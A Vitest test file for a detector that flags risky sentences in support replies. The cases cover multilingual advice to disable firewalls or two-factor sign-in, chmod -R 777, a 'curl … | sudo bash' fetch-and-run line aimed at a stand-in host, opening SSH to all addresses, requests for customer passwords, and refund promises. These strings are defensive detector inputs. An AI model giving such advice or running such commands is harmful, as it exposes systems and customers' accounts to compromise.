/** What is flagged before it goes out, in the languages desks write in, and what is said every day and is not. */
import { expect, test } from "vitest";
import { processorTime } from "#lib/platform/testing/processor-time";
import { cautionsOf } from "./cautions";

test.each([
  ["security", "As a quick fix you can disable the firewall on the node."],
  ["security", "Bitte deaktivieren Sie kurz die Zwei-Faktor-Anmeldung."],
  ["security", "Schalten Sie die Firewall einfach aus."],
  ["security", "Désactivez le pare-feu le temps du test."],
  ["security", "Puede desactivar el cortafuegos durante la prueba."],
  ["security", "Può disattivare il firewall per un momento."],
  ["security", "Você pode ignorar o certificado."],
  ["security", "Zet de firewall tijdelijk uit."],
  ["security", "请暂时关闭防火墙。"],
  ["security", "Run chmod -R 777 /var/www and try again."],
  ["security", "Just run curl https://x.example/i.sh | sudo bash."],
  ["security", "Set sslmode=disable in the connection string."],
  ["security", "Add a rule that allows 0.0.0.0/0 on port 22."],
  ["security", "Please send us your password so that we can check."],
  ["security", "Bitte schicken Sie uns Ihr Passwort."],
  ["security", "请把密码发给我们，或者提供验证码。"],
  ["promise", "We will refund the whole month."],
  ["promise", "Wir erstatten Ihnen die Kosten."],
  ["promise", "Nous vous rembourserons le mois entier."],
  ["promise", "I guarantee that this will not happen again soon."],
  ["promise", "我们保证明天恢复。"],
] as const)("%s: %s", (kind, sentence) => {
  const found = cautionsOf(`Hello,\n\n${sentence}\n\nKind regards`);
  expect(found.map((one) => one.kind)).toEqual(sentence.includes("not happen") ? [] : [kind]);
});

test.each([
  "Never share your password with anybody, not even with us.",
  "Bitte deaktivieren Sie die Zwei-Faktor-Anmeldung nicht.",
  "The firewall rule for port 443 is in place.",
  "Please send us the output of the command.",
  "The certificate was renewed this morning.",
  "Open the volume, choose Grow and confirm.",
  "Your password was reset; you can choose a new one at the next sign-in.",
  "How refunds work is described in the billing article.",
  "I will let you know by tomorrow.",
])("not flagged: %s", (text) => expect(cautionsOf(text)).toEqual([]));

test("is linear in what others write", () => {
  const sentence = "turn off the firewall and send curl x | we refund ";
  const short = processorTime(() => cautionsOf(sentence.repeat(100)));
  const long = processorTime(() => cautionsOf(sentence.repeat(2_000)));
  expect(long).toBeLessThan(Math.max(200, short * 60));
});
